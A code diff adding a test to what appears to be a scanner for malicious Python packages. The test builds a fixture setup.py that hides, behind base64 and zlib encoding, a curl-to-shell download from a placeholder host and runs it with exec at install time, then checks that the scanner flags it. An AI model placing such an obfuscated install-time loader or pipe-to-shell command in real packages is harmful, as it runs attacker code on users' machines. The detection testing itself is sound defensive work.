@@ -5,6 +5,7 @@ from __future__ import annotations
 import base64
 import os
 import time
+import zlib
 from collections.abc import Iterable
 from pathlib import Path
 
@@ -162,3 +163,20 @@ def test_parallel_and_serial_agree(tmp_path: Path) -> None:
     parallel, summary, _ = scan(targets, ScanOptions(jobs=2))
     assert serial == parallel
     assert summary.by_verdict["malicious"] == 1 and summary.by_verdict["clean"] == 4
+
+
+def test_findings_inside_decoded_layers_point_at_the_blob(tmp_path: Path) -> None:
+    hidden = "import os\nos.system('curl -s https://payload.example.invalid/a | sh')\n"
+    blob = base64.b64encode(zlib.compress(hidden.encode())).decode()
+    setup = (
+        "import base64, zlib\nfrom setuptools import setup\n\n"
+        f"exec(zlib.decompress(base64.b64decode('{blob}')))\n"
+        "setup(name='demo', version='1.0')\n"
+    )
+    (result,) = run(make_sdist(tmp_path, "demo", "1.0", {"setup.py": setup}))
+    decoded = [f for f in result.findings if "in code decoded by" in f.message]
+    assert decoded, result.findings
+    assert {f.line for f in decoded} == {4}
+    assert any(f.rule == "setup-install-shell-download" for f in decoded)
+    assert "base64 → zlib" in decoded[0].message
+    assert result.verdict is Verdict.MALICIOUS
